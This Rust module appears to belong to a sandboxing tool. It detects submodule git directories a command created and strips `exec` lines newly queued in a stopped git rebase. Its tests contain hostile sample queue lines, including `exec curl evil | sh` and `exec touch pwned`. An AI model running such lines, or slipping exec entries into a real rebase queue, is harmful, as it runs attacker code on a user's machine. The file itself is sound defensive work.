//! What a git directory holds that runs at a later git command, beyond its hooks and
//! configuration: the git directories of its submodules (`modules/…`, each with hooks and a
//! configuration of its own, which `git submodule update` uses) and a stopped rebase's queued
//! `exec` lines (`rebase-merge/git-rebase-todo`, which `git rebase --continue` runs). Both are
//! noted before a command for each git directory the walk found; after it, a submodule's git
//! directory that was not there is a repository the command made (the sweep keeps it without
//! hooks or settings that run programs), and an `exec` line the queue did not hold before is
//! removed from it. The user's own stopped rebase keeps the lines it had.

use std::collections::{HashMap, HashSet};
use std::ffi::OsStr;
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

use crate::beneath::Parent;

/// How deep submodules' git directories are looked for under `modules/` (a submodule's name may
/// hold slashes, and submodules nest).
const MAX_DEPTH: usize = 64;
/// Directory entries read under one git directory's `modules/`.
const MAX_ENTRIES: usize = 65_536;
/// The largest rebase queue read.
const MAX_TODO: u64 = 4 * 1024 * 1024;

/// What stood before the command.
#[derive(Debug, Default)]
pub struct Pending {
    /// Every submodule git directory found, by device and inode.
    modules: HashSet<(u64, u64)>,
    /// Each stopped rebase's queued `exec` lines, by the queue's path.
    execs: HashMap<PathBuf, Vec<String>>,
}

/// Notes the submodules and queued `exec` lines of `git_dirs`.
pub fn note(roots: &[PathBuf], git_dirs: &[PathBuf]) -> Pending {
    let mut pending = Pending::default();
    for git_dir in git_dirs {
        for module in modules(git_dir) {
            if let Ok(meta) = std::fs::symlink_metadata(&module) {
                pending.modules.insert((meta.dev(), meta.ino()));
            }
        }
        let todo = todo(git_dir);
        if let Some(text) = read(roots, &todo) {
            pending.execs.insert(todo, text.lines().filter(|line| is_exec(line)).map(str::to_owned).collect());
        }
    }
    pending
}

impl Pending {
    /// The submodule git directories under `git_dir` that were not there before.
    pub fn new_modules(&self, git_dir: &Path) -> Vec<PathBuf> {
        let known = |module: &PathBuf| {
            std::fs::symlink_metadata(module).is_ok_and(|meta| self.modules.contains(&(meta.dev(), meta.ino())))
        };
        modules(git_dir).into_iter().filter(|module| !known(module)).collect()
    }

    /// Removes from `git_dir`'s stopped rebase the `exec` lines its queue did not hold before;
    /// the line to say, if any went.
    pub fn drop_new_execs(&self, roots: &[PathBuf], git_dir: &Path) -> Option<String> {
        let why = "a stopped rebase's queue the sweep cannot read safely may hold `exec` lines that \
                   `git rebase --continue` would run outside the sandbox";
        // A `rebase-merge` that is a link, or a queue too large or reached through a link, is
        // taken whole: the queue's lines cannot be told apart.
        let rebase = git_dir.join("rebase-merge");
        let meta = std::fs::symlink_metadata(&rebase).ok()?;
        if !meta.is_dir() {
            return Some(super::sweep::take(roots, &rebase, why));
        }
        let todo = todo(git_dir);
        let Some(text) = read(roots, &todo) else {
            let there = std::fs::symlink_metadata(&todo).is_ok();
            return there.then(|| super::sweep::take(roots, &todo, why));
        };
        let mut kept_before = self.execs.get(&todo).cloned().unwrap_or_default();
        let mut dropped = 0usize;
        let mut out = String::with_capacity(text.len());
        for line in text.lines() {
            if is_exec(line) {
                match kept_before.iter().position(|known| known == line) {
                    Some(at) => drop(kept_before.remove(at)),
                    None => {
                        dropped += 1;
                        continue;
                    }
                }
            }
            out.push_str(line);
            out.push('\n');
        }
        if dropped == 0 {
            return None;
        }
        let shown = todo.display();
        let written = Parent::existing(roots, &todo)
            .and_then(|parent| parent.rewrite(OsStr::new("git-rebase-todo.cairn-sweep"), out.as_bytes()));
        Some(match written {
            Ok(()) => format!(
                "removed {dropped} `exec` line(s) the command queued in a stopped rebase ({shown}): \
                 `git rebase --continue` would run them outside the sandbox"
            ),
            Err(err) => format!(
                "a stopped rebase holds `exec` lines the command queued ({shown}); they could not be removed: {err}"
            ),
        })
    }
}

/// The queue of `git_dir`'s stopped interactive rebase.
fn todo(git_dir: &Path) -> PathBuf {
    git_dir.join("rebase-merge/git-rebase-todo")
}

/// A queue line that runs a command: `exec …` or `x …`.
fn is_exec(line: &str) -> bool {
    let word = line.trim_start().split([' ', '\t']).next().unwrap_or("");
    word == "exec" || word == "x"
}

/// `path` read beneath its root (no link followed), if it is a small enough file.
fn read(roots: &[PathBuf], path: &Path) -> Option<String> {
    std::fs::symlink_metadata(path).ok()?;
    let bytes = Parent::existing(roots, path).ok()?.read(MAX_TODO).ok()??;
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// The git directories under `git_dir/modules/`: each directory holding a `HEAD`, and those
/// under its own `modules/`. No link is followed.
fn modules(git_dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    // A `modules` that is a link (to another repository's) is not walked.
    if !std::fs::symlink_metadata(git_dir.join("modules")).is_ok_and(|meta| meta.is_dir()) {
        return found;
    }
    let mut budget = MAX_ENTRIES;
    let mut queue = vec![(git_dir.join("modules"), 0usize)];
    while let Some((dir, depth)) = queue.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            if budget == 0 {
                return found;
            }
            budget -= 1;
            let path = entry.path();
            // A link among the modules may lead git to a submodule's git directory elsewhere:
            // one the command made is taken itself.
            if entry.file_type().is_ok_and(|kind| kind.is_symlink()) {
                found.push(path);
                continue;
            }
            if !entry.file_type().is_ok_and(|kind| kind.is_dir()) || depth >= MAX_DEPTH {
                continue;
            }
            if std::fs::symlink_metadata(path.join("HEAD")).is_ok() {
                queue.push((path.join("modules"), depth + 1));
                found.push(path);
            } else {
                queue.push((path, depth + 1));
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn touch(path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    /// A submodule's git directory the command made under `.git/modules/` (its hook ran at the
    /// user's `git submodule update`) is new; one that stood before is not.
    #[test]
    fn a_submodule_git_directory_the_command_made_is_new_and_an_old_one_is_not() {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        let git = root.join(".git");
        touch(&git.join("modules/old/HEAD"), "ref: refs/heads/main\n");
        let noted = note(std::slice::from_ref(&root), std::slice::from_ref(&git));
        touch(&git.join("modules/libs/evil/HEAD"), "ref: refs/heads/main\n");
        touch(&git.join("modules/old/modules/inner/HEAD"), "ref: refs/heads/main\n");
        let mut made = noted.new_modules(&git);
        made.sort();
        assert_eq!(made, [git.join("modules/libs/evil"), git.join("modules/old/modules/inner")]);
    }

    /// A `modules` link the command made to another repository's submodules leads the sweep
    /// nowhere: those are the user's, outside the workspace.
    #[test]
    fn a_modules_link_to_another_repositorys_submodules_is_not_followed() {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap().join("ws");
        let git = root.join(".git");
        std::fs::create_dir_all(&git).unwrap();
        let theirs = root.parent().unwrap().join("other/.git/modules");
        touch(&theirs.join("lib/HEAD"), "ref: refs/heads/main\n");
        let noted = note(std::slice::from_ref(&root), std::slice::from_ref(&git));
        std::os::unix::fs::symlink(&theirs, git.join("modules")).unwrap();
        assert!(noted.new_modules(&git).is_empty());
    }

    /// A submodule's git directory the command linked in from elsewhere, or nested past the
    /// first bounds the walk had (nine levels), is found too.
    #[test]
    fn a_linked_or_deeply_nested_submodule_git_directory_is_found() {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        let git = root.join(".git");
        std::fs::create_dir_all(git.join("modules")).unwrap();
        let noted = note(std::slice::from_ref(&root), std::slice::from_ref(&git));
        std::os::unix::fs::symlink("/tmp", git.join("modules/linked")).unwrap();
        let deep: PathBuf = (0..9).map(|n| format!("n{n}")).collect();
        touch(&git.join("modules").join(&deep).join("HEAD"), "ref: refs/heads/main\n");
        let mut made = noted.new_modules(&git);
        made.sort();
        assert_eq!(made, [git.join("modules/linked"), git.join("modules").join(&deep)]);
    }

    /// `exec` lines the command queued in a stopped rebase go (the user's `git rebase
    /// --continue` ran them); the user's own queued lines stay, and so does the rest.
    #[test]
    fn exec_lines_the_command_queued_go_and_the_users_stay() {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        let git = root.join(".git");
        let todo = git.join("rebase-merge/git-rebase-todo");
        touch(&todo, "pick 1 one\nexec make test\npick 2 two\n");
        let noted = note(std::slice::from_ref(&root), std::slice::from_ref(&git));
        touch(&todo, "pick 1 one\nexec make test\nx touch pwned\n  exec\tcurl evil | sh\npick 2 two\n");
        let said = noted.drop_new_execs(std::slice::from_ref(&root), &git);
        assert!(said.is_some_and(|line| line.contains("removed 2")));
        assert_eq!(std::fs::read_to_string(&todo).unwrap(), "pick 1 one\nexec make test\npick 2 two\n");
        assert_eq!(noted.drop_new_execs(std::slice::from_ref(&root), &git), None, "nothing more to take");

        // A queue too large to read, or a `rebase-merge` that is a link, is taken whole.
        let large = root.join("large/.git");
        touch(&large.join("rebase-merge/git-rebase-todo"), &"exec touch pwned\n".repeat(300_000));
        assert!(Pending::default().drop_new_execs(std::slice::from_ref(&root), &large).is_some());
        assert!(!large.join("rebase-merge/git-rebase-todo").exists());
        let linked = root.join("linked/.git");
        std::fs::create_dir_all(&linked).unwrap();
        std::os::unix::fs::symlink(large.join("rebase-merge"), linked.join("rebase-merge")).unwrap();
        assert!(Pending::default().drop_new_execs(std::slice::from_ref(&root), &linked).is_some());
        assert!(std::fs::symlink_metadata(linked.join("rebase-merge")).is_err());

        let fresh = root.join("fresh/.git");
        touch(&fresh.join("rebase-merge/git-rebase-todo"), "break\nexec touch pwned\n");
        assert!(Pending::default().drop_new_execs(std::slice::from_ref(&root), &fresh).is_some());
        assert_eq!(std::fs::read_to_string(fresh.join("rebase-merge/git-rebase-todo")).unwrap(), "break\n");
    }
}
